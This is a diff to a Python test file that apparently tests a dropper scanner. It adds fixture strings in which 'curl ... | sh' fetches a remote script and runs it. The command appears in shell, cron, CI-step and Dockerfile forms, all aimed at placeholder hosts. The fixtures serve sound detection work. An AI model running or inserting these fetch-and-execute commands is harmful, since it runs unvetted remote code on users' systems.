@@ -206,6 +206,10 @@ def archive(name: str, data: bytes = b"x") -> bytes:
         (b"# Install\n\ncurl https://203.0.113.7/i.sh | sh\n", "dropper"),
         (b"#!/bin/sh\n# Install it\ncurl https://x.example/i.sh | sh\n", "dropper"),
         (b"curl https://x.example/i.sh | sh\n", "dropper"),
+        (b"# Install the agent\nset -e\ncurl https://x.example/i.sh | sh\n", "dropper"),
+        (b"# Every hour\n0 * * * * root curl https://x.example/i.sh | sh\n", "dropper"),
+        (b"---\nsteps:\n  - run: curl https://x.example/i.sh | sh\n", "dropper"),
+        (b"# Base image\n\nRUN curl https://x.example/i.sh | sh\n", "dropper"),
         (b"PK\x03\x04 and nothing else", "archive-broken"),
     ],
 )
